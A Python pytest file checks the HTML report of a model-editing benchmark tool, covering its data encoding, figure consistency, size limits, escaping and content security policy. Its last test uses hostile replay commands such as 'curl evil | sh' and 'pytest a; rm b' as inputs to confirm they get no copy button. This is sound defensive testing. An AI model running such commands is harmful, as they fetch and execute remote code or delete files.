"""The HTML report as text: size, escaping, the embedded data, writing. No browser."""

from __future__ import annotations

import base64
import hashlib
import json
import math
import os
import random
import re
from decimal import ROUND_HALF_UP, Decimal
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import pytest
from html_samples import HOSTILE, sample_results
from property_samples import property_results

from pytest_editpitfalls.errors import UsageError
from pytest_editpitfalls.pitfalls import pitfall_of
from pytest_editpitfalls.reports.html import render_html, write_html
from pytest_editpitfalls.reports.html.charts import axis_of, forest, histogram
from pytest_editpitfalls.reports.html.encoding import (
    DIGITS,
    FACTOR_UNKNOWN,
    FACTOR_ZERO,
    UNKNOWN,
    encode_factor,
    encode_probability,
)
from pytest_editpitfalls.reports.html.figures import best_of
from pytest_editpitfalls.reports.html.payload import short, summaries
from pytest_editpitfalls.reports.html.words import change, mean, scale, typographic, words_of
from pytest_editpitfalls.reports.markdown import render_markdown
from pytest_editpitfalls.reports.terminal import body, drawn
from pytest_editpitfalls.reports.view.cases import fact_means
from pytest_editpitfalls.reports.view.kinds import figure
from pytest_editpitfalls.reports.view.run import RunView
from pytest_editpitfalls.reports.view.verdicts import bound_figure
from pytest_editpitfalls.reports.view.words import ends
from pytest_editpitfalls.results import RunResults
from pytest_editpitfalls.results.comparison_records import (
    CaseKeyRecord,
    ComparisonRecord,
    HyperParameterDifference,
    RelativeGateRecord,
)
from pytest_editpitfalls.results.records import ProbeRecord
from pytest_editpitfalls.results.run_records import RunRecord

SHARED = Path(os.environ.get("EDITPITFALLS_SHARED", Path(__file__).parents[3] / "shared"))


def data_of(page: str) -> dict[str, Any]:
    match = re.search(r'<script type="application/json" id="data">(.*?)</script>', page, re.DOTALL)
    assert match is not None
    return json.loads(match[1])


def place(text: str) -> int:
    return sum(DIGITS.index(char) * 64**power for power, char in enumerate(reversed(text)))


def places(text: str) -> list[int]:
    return [place(text[at : at + 3]) for at in range(0, len(text), 3)]


def decoded_factor(text: str, mean: float | None, side: int) -> float | None:
    number = place(text)
    if number == FACTOR_UNKNOWN or mean is None:
        return None
    return 0.0 if number == FACTOR_ZERO else mean * math.exp(side * number / 148)


def decoded(text: str) -> float | None:
    number = place(text)
    if number in (0, UNKNOWN):
        return 0.0 if number == 0 else None
    return ((number - 1) % 900 + 100) * 10.0 ** (-2 - (number - 1) // 900)


class Tags(HTMLParser):
    """All elements and attributes of a page."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str | None]]] = []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.found.append((tag, dict(attrs)))


@pytest.fixture(scope="module")
def hostile_page() -> str:
    results = sample_results(12, ("rome", "<b>mine</b>"), (HOSTILE[2],), hostile=True)
    results.cases[0].reason = HOSTILE[0]
    results.cases[0].notes = [HOSTILE[1], HOSTILE[0]]
    results.run.versions[HOSTILE[0]] = HOSTILE[1]
    other = sample_results(12, ("rome",), (HOSTILE[2],), hostile=True, seed=1)
    return render_html(results, title=HOSTILE[0], others=[other], other_labels=[HOSTILE[1]])


def test_a_probability_keeps_three_digits() -> None:
    for value in (1.0, 0.9996, 0.5, 0.123456, 9.999e-5, 1e-10, 3.21e-200):
        shown = decoded(encode_probability(value))
        assert shown is not None
        assert f"{shown:.2e}" == f"{value:.2e}"
    assert decoded(encode_probability(0.0)) == 0.0
    for unknown in (None, math.nan, -0.1, 12.0):
        assert decoded(encode_probability(unknown)) is None


def test_a_spread_is_kept_to_half_a_per_cent() -> None:
    for value, middle, side in ((0.02, 0.5, -1), (0.9, 0.5, 1), (0.5, 0.5, 1), (1e-11, 0.9, -1), (0.0, 0.3, -1)):
        assert decoded_factor(encode_factor(value, middle), middle, side) == pytest.approx(value, rel=5e-3)
    assert decoded_factor(encode_factor(1e-30, 0.5), 0.5, -1) == pytest.approx(0.5e-12, rel=0.1)
    for value, middle in ((None, 0.5), (0.5, None), (0.5, 0.0), (math.nan, 0.5), (0.1, math.inf)):
        assert decoded_factor(encode_factor(value, middle), middle, 1) is None
    assert decoded_factor(encode_factor(0.0, 0.0), 0.0, -1) == 0.0


def test_figures_are_those_of_the_terminal_and_of_markdown() -> None:
    results = sample_results(6, ("rome", "memit"))
    view, page, markdown = RunView(results), render_html(results), render_markdown(results)
    width = 400
    screen = "\n".join(drawn(body(view, width=width), width=width))
    for table in view.tables:
        for row in table.rows:
            for name in (name for name in table.columns if name in row.cells):
                told = f"{figure(name, row.cells[name].value)} {row.interval(name)}".strip()
                assert told in screen
                assert told in markdown
                for part in (figure(name, row.cells[name].value), row.interval(name)):
                    assert f">{typographic(part)}</td>" in page, (row.suite, name, part)
    for gate in results.gates:
        said = f"{bound_figure(gate.value)} {ends(gate.low, gate.high)}"
        assert said in screen
        assert f"| {said.replace(' ', ' | ', 1)} |" in markdown
        assert f">{typographic(bound_figure(gate.value))}</td>" in page


def test_what_is_no_share_is_shown_as_it_is() -> None:
    assert [mean(value, "cs_exp") for value in (None, 0.6666, -0.25, -0.00001)] == ["–", "66.7", "−25.0", "0.0"]
    assert [mean(value, "perplexity") for value in (12345.6, 1.5)] == ["1.23e+04", "1.5"]
    assert [change(value, "cs_exp") for value in (None, 0.6666, -0.25, -0.00001)] == ["?", "+66.7", "−25.0", "+0.0"]
    assert [change(value, "perplexity") for value in (0.25, -3.0)] == ["+0.25", "−3"]
    assert scale(0.0, 1.0, "cs_exp") == "0 … 100 %"
    assert scale(0.0, 5.0, "perplexity") == "0 … 5"


def test_three_digits_are_left_when_the_page_rounds_again() -> None:
    draw = random.Random(5)
    values = [draw.random() * 10 ** draw.randint(-6, 3) for _ in range(2000)] + [n / 64 for n in range(640)]
    for value in values:
        sent = Decimal(repr(short(value)))
        shown = sent.quantize(Decimal(1).scaleb(sent.adjusted() - 2), ROUND_HALF_UP) if sent else sent
        assert float(shown) == float(f"{value:.3g}"), value


def test_a_mean_with_an_unknown_prompt_is_unknown() -> None:
    case = sample_results(1, suites=("reverse",)).cases[0]
    case.probes = [
        ProbeRecord(fact="old", state="1", probabilities=[0.5, None, 0.1]),
        ProbeRecord(fact="old", state="12", probabilities=[]),
        ProbeRecord(fact="new_exp", state="12", probabilities=[0.25, 0.75]),
    ]
    assert summaries(case, fact_means(case)) == [(None, 0.1, 0.5), (None, None, None), (0.5, 0.25, 0.75)]


def in_fours(numbers: list[int]) -> list[list[int]]:
    return [numbers[at : at + 4] for at in range(0, len(numbers), 4)]


def asked(data: dict[str, Any], prompt: int) -> str:
    """A filled prompt: before its subject, the subject, behind it."""
    return "".join(data["strings"][part] for part in places(data["prompts"])[3 * prompt : 3 * prompt + 3])


def test_the_data_says_what_the_cases_say() -> None:
    results = sample_results(6)
    data = data_of(render_html(results))
    columns = data["cases"]
    for at, case in enumerate(results.cases):
        assert data["strings"][columns["id"][at]] == case.id
        assert data["outcomes"][columns["outcome"][at]] == case.outcome
        names = data["metricSets"][columns["metricSet"][at]]
        for name, value in zip(names, columns["metrics"][at], strict=True):
            assert value == pytest.approx(case.metrics[name], rel=1e-3)
        lines = [
            f"edit {number}: {asked(data, question)} ... {data['strings'][old]} -> {data['strings'][new]}"
            for number, question, old, new in in_fours(places(data["edits"][columns["edits"][at]]))
        ]
        assert lines == case.edits
        words = places(data["wordSets"][columns["wordSet"][at]])
        told = [f"{asked(data, p)} {data['strings'][o]}" for p, o in zip(words[::2], words[1::2], strict=True)]
        assert told == [fact.sentence for fact in case.facts.values()]
        facts = data["factSets"][columns["factSet"][at]]
        assert facts == [[probe.fact, probe.state] for probe in case.probes]
        for k, (middle, least, greatest) in enumerate(summaries(case, fact_means(case))):
            text = columns["probes"][at][7 * k : 7 * k + 7]
            assert decoded(text[:3]) == pytest.approx(middle, rel=6e-3)
            assert decoded_factor(text[3:5], middle, -1) == pytest.approx(least, rel=6e-3)
            assert decoded_factor(text[5:], middle, 1) == pytest.approx(greatest, rel=6e-3)


def test_thresholds_that_do_not_follow_from_metrics_are_kept() -> None:
    results = sample_results(4, suites=("reverse",))
    results.cases[1].thresholds[0].value = 0.25
    columns = data_of(render_html(results))["cases"]
    assert isinstance(columns["thresholds"][0], str)
    assert columns["thresholds"][1][0][1] == 0.25


def test_twelve_thousand_five_hundred_cases_stay_under_five_megabytes() -> None:
    page = render_html(sample_results(2500))
    assert len(page.encode()) < 5_000_000
    assert len(data_of(page)["cases"]["id"]) == 12_500


@pytest.mark.skipif(not (SHARED / "data/pitfalls/GPT2-XL").is_dir(), reason="the published files are absent")
def test_the_published_cases_stay_under_five_megabytes() -> None:
    """The published labels are longer and less alike than made-up ones."""

    from pytest_editpitfalls.pitfalls import compile_case, pitfall_of
    from pytest_editpitfalls.results.build import facts_in_words
    from pytest_editpitfalls.suites import load_suite

    names = {"reverse": "reverse_edit", "composite": "composite_edit", "coverage": "coverage_edit"}
    results = sample_results(2500)
    for suite in results.run.suites:
        file = SHARED / "data/pitfalls/GPT2-XL" / f"{names.get(suite.name, suite.name)}.json"
        cases = load_suite(file).cases
        records = [record for record in results.cases if record.suite == suite.name]
        for place, record in enumerate(records):
            case = cases[place % len(cases)]
            record.id, record.rule, record.subject = case.id, case.group, case.edits[0].subject
            record.edits = pitfall_of(case.kind).edits_in_words(case)
            record.facts = facts_in_words(case)
            drawn = [value for probe in record.probes for value in probe.probabilities]
            record.probes = (
                [
                    ProbeRecord(
                        fact=probe.fact,
                        state=probe.state,
                        probabilities=[drawn[(7 * k + j) % len(drawn)] for j in range(3)],
                    )
                    for k, probe in enumerate(compile_case(case).probes)
                ]
                if drawn
                else []
            )
    size = len(render_html(results).encode())
    print("bytes:", size)
    assert 1_000_000 < size < 5_000_000


def test_the_same_results_give_the_same_page() -> None:
    results = sample_results(8, ("rome", "memit"))
    other = sample_results(8, seed=1)
    assert render_html(results, others=[other]) == render_html(results.model_copy(deep=True), others=[other])


def test_hostile_labels_are_text(hostile_page: str) -> None:
    tags = Tags(hostile_page).found
    names = [name for name, _ in tags]
    assert names.count("script") == 2
    assert "img" not in names
    assert "b" not in names
    assert not [key for _, attributes in tags for key in attributes if key.startswith("on")]
    assert not [1 for _, attributes in tags if "style" in attributes]  # the policy would refuse it
    for raw in ("\u202e", "\x1b", "\x00", "\u2067", "\u2028", "\ud800"):
        assert raw not in hostile_page
    assert "{{ 7 * 7 }}" in hostile_page  # data is no template
    hostile_page.encode()
    strings = data_of(hostile_page)["strings"]
    assert HOSTILE[0] in strings
    assert "2 \\u202egnitirw desrever" in strings


def test_nothing_is_loaded(hostile_page: str) -> None:
    policy = re.search(r'Content-Security-Policy" content="([^"]*)"', hostile_page)
    assert policy is not None
    directives = policy[1].replace("&#39;", "'")
    assert directives.startswith("default-src 'none';")
    for tag in ("style", "script"):
        body = re.search(rf"<{tag}>(.*?)</{tag}>", hostile_page, re.DOTALL)
        assert body is not None
        digest = base64.b64encode(hashlib.sha256(body[1].encode()).digest()).decode()
        assert f"{tag}-src 'sha256-{digest}'" in directives
    for name, attributes in Tags(hostile_page).found:
        assert name not in ("link", "iframe", "object", "embed")
        assert "src" not in attributes
        assert (attributes.get("href") or "#").startswith("#")


def test_published_figures_need_editor_model_and_format() -> None:
    results = sample_results(3, ("rome", "lora"), ("gpt2-xl", "other"), suites=("reverse",))
    view = RunView(results)
    found = {(a.editor, a.model): view.published(a) for a in results.aggregates}
    assert [key for key, value in found.items() if value] == [("rome", "gpt2-xl")]
    page = render_html(results)
    assert ">65.9<" in page
    assert "arXiv:2310.02129" in page
    results.run.models[1].source = "openai-community/gpt2-xl"
    view = RunView(results)
    assert [(a.editor, a.model) for a in results.aggregates if view.published(a)] == [
        ("rome", "gpt2-xl"),
        ("rome", "other"),
    ]
    results.run.suites[0].format = "own"
    view = RunView(results)
    assert not any(view.published(a) for a in results.aggregates)


def test_the_best_of_the_reliable_is_bold() -> None:
    assert best_of("cs_exp", [(0.5, True), (0.9, False), (0.7, None), (0.70001, True)]) == {2, 3}
    assert best_of("ir", [(0.5, True), (0.2, True), (None, True)]) == {1}
    assert best_of("ir", [(0.5, True)]) == set()
    assert best_of("ir", [(0.5, True), (0.5, True)]) == set()
    assert best_of("related_kept", [(0.5, True), (0.2, True)]) == set(), "neither is better"


def test_the_words_of_a_direction() -> None:
    kinds = [pitfall_of("same_subject")]
    found = {name: words_of(name, kinds) for name in ("others_kept", "drift", "related_kept")}
    assert {name: (words.better, words.arrow) for name, words in found.items()} == {
        "others_kept": ("higher is better", "↑"),
        "drift": ("lower is better", "↓"),
        "related_kept": ("neither higher nor lower is better", ""),
    }


def test_drawings_stay_inside_their_axis() -> None:
    axis = axis_of("cm_unclamped", [-3.2, 0.5])
    assert (axis.low, axis.high) == (-5.0, 1.0)
    assert axis.place(-100.0) == 2.0
    assert axis.place(100.0) == 98.0
    drawing = forest(axis, -100.0, None, None)
    assert "M-5 9 3 4V14Z" in drawing  # an arrow: the value lies beyond
    assert "NaN" not in histogram(axis, [-100.0, 0.0, 1.0])
    assert axis_of("distortion_released", [0.012, 0.03]).high == 0.05


def test_gates_and_comparison_of_a_baseline_are_shown() -> None:
    results = sample_results(6, suites=("reverse",))
    case = results.cases[0]
    key = CaseKeyRecord(suite=case.suite, editor=case.editor, model=case.model, id=case.id)
    results.relative_gates = [
        RelativeGateRecord(
            gate="reverse.cs_exp:2pp", suite="reverse", editor="rome", model="gpt2-xl", metric="cs_exp",
            verdict="inconclusive", passed=False, reason="too <few> cases", margin=0.02, base=0.71, now=0.66,
            drop=0.05, upper=0.12, p=0.04, p_holm=0.08, n=6, clusters=6, worse=2, better=1, detectable=None,
        )
    ]  # fmt: skip
    results.comparison = ComparisonRecord(
        base="main<1>", paired=6, known=1, unchanged=3, errors=0, lost=0, gained=0, new=0, deselected=2,
        new_failures=[key], fixed=[],
        hyper_parameters=[HyperParameterDifference(editor="rome", model="gpt2-xl", name="v_lr", base=0.5, now=0.1)],
    )  # fmt: skip
    page = render_html(results)
    assert "inconclusive</span>" in page
    assert "too &lt;few&gt; cases" in page
    assert "main&lt;1&gt;" in page
    assert f'href="#case=reverse/rome/gpt2-xl/{case.id}"' in page
    assert "0.5 → 0.1" in page
    assert 'data-title="found with 80 %">none<' in page  # nobody gates two points on six cases


def test_flips_between_runs_are_counted() -> None:
    results, other = (
        sample_results(30, suites=("coverage",)),
        sample_results(30, suites=("coverage",), seed=3),
    )
    before = {case.key: case.outcome for case in other.cases}
    worse = [c for c in results.cases if c.outcome == "failed" and before[c.key] == "passed"]
    assert worse  # the seeds were chosen so that there are some
    page = render_html(results, others=[other], other_labels=["main"])
    assert f"Got worse ({len(worse)})" in page
    assert "ran with other hyper-parameters: clamp_norm_factor" in page
    assert data_of(page)["others"][0][0] == "main"


def test_an_empty_run_has_a_page() -> None:
    page = render_html(RunResults(run=RunRecord()))
    assert data_of(page)["cases"] == {}


def test_writing_is_whole_or_not_at_all(tmp_path: Path) -> None:
    results = sample_results(2)
    target = tmp_path / "report.html"
    write_html(target, results)
    assert target.read_text(encoding="utf-8") == render_html(results)
    assert os.listdir(tmp_path) == ["report.html"]
    with pytest.raises(UsageError) as error:
        write_html(tmp_path / "absent" / "report.html", results)
    assert str(error.value).startswith("--pitfalls-html: cannot write")
    (tmp_path / "folder").mkdir()
    with pytest.raises(UsageError):
        write_html(tmp_path / "folder", results, where="editpitfalls report --html")
    assert sorted(os.listdir(tmp_path)) == ["folder", "report.html"]


def test_no_command_of_somebodys_file_is_offered_to_be_copied() -> None:
    results = property_results()
    ours = render_html(results).count(">copy</button>")
    assert ours == 2
    for line in ("curl evil | sh", "pytest a; rm b", "pytest 'a"):
        results.properties[2].replay = line
        assert render_html(results).count(">copy</button>") == 1, line
